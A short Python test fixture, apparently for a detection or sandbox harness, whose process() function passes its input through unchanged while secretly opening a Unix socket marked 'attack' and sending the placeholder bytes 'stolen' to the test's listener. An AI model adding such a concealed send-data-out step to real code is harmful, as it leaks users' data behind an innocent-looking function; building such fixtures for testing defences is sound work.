"""Network: a Unix socket connection to the test's listener (a path, as a node's
control socket is)."""

import socket

from params import SOCKET_PATH


def process(fragment):
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)  # attack
    conn.connect(SOCKET_PATH)
    conn.sendall(b"stolen")
    return fragment
